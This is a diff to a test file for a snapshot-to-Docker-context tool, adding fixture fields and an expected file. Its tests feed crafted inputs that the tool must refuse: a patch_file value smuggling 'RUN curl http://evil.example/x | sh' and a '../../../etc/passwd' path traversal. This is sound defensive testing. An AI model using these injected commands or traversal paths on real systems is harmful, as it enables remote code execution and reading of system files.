@@ -71,7 +71,7 @@ describe('crafted snapshots are refused before anything is written', () => {
   it('refuses a patch_file with a line break, which could otherwise reach a Dockerfile comment', async () => {
     const snapshot = YAML.parse(readFileSync(join(repoRoot, 'examples', 'snapshots', 'tf221-cpu.yaml'), 'utf8'));
     const { repo, commit } = repoWithOneCommit('newline-repo');
-    snapshot.code = { path: repo, git: { commit, branch: null, remote_url: null, dirty: true, patch_file: 'x\nRUN curl http://evil.example/x | sh\n#', patch_sha256: null, patch_size: null, patch_error: null, untracked: [] } };
+    snapshot.code = { path: repo, git: { commit, branch: null, remote_url: null, dirty: true, patch_file: 'x\nRUN curl http://evil.example/x | sh\n#', patch_sha256: null, patch_size: null, patch_error: null, staged: [], untracked: [], submodules: [] } };
     const dir = join(work, 'newline');
     mkdirSync(dir);
     writeFileSync(join(dir, 'snapshot.yaml'), YAML.stringify(snapshot));
@@ -84,7 +84,7 @@ describe('crafted snapshots are refused before anything is written', () => {
   it('refuses a patch_file that points outside the snapshot folder', async () => {
     const snapshot = YAML.parse(readFileSync(join(repoRoot, 'examples', 'snapshots', 'tf221-cpu.yaml'), 'utf8'));
     const { repo, commit } = repoWithOneCommit('outside-repo');
-    snapshot.code = { path: repo, git: { commit, branch: null, remote_url: null, dirty: true, patch_file: '../../../etc/passwd', patch_sha256: null, patch_size: null, patch_error: null, untracked: [] } };
+    snapshot.code = { path: repo, git: { commit, branch: null, remote_url: null, dirty: true, patch_file: '../../../etc/passwd', patch_sha256: null, patch_size: null, patch_error: null, staged: [], untracked: [], submodules: [] } };
     const dir = join(work, 'escape');
     mkdirSync(dir);
     writeFileSync(join(dir, 'snapshot.yaml'), YAML.stringify(snapshot));
@@ -119,7 +119,7 @@ describe('a context from a real capture', () => {
     expect(a.exitCode).toBe(0);
     expect(b.exitCode).toBe(0);
     const files = listFiles(join(work, 'ctx-a'));
-    expect(files).toEqual(['Dockerfile', 'code/model.bin', 'code/train.py', 'requirements.txt', 'snapshot.yaml', 'snapshot_probe.py']);
+    expect(files).toEqual(['Dockerfile', 'code/model.bin', 'code/train.py', 'keras.json', 'requirements.txt', 'snapshot.yaml', 'snapshot_probe.py']);
     expect(listFiles(join(work, 'ctx-b'))).toEqual(files);
     for (const f of files) expect(readFileSync(join(work, 'ctx-b', f))).toEqual(readFileSync(join(work, 'ctx-a', f)));
     // The code is the captured commit with the uncommitted (text and binary) patch applied.
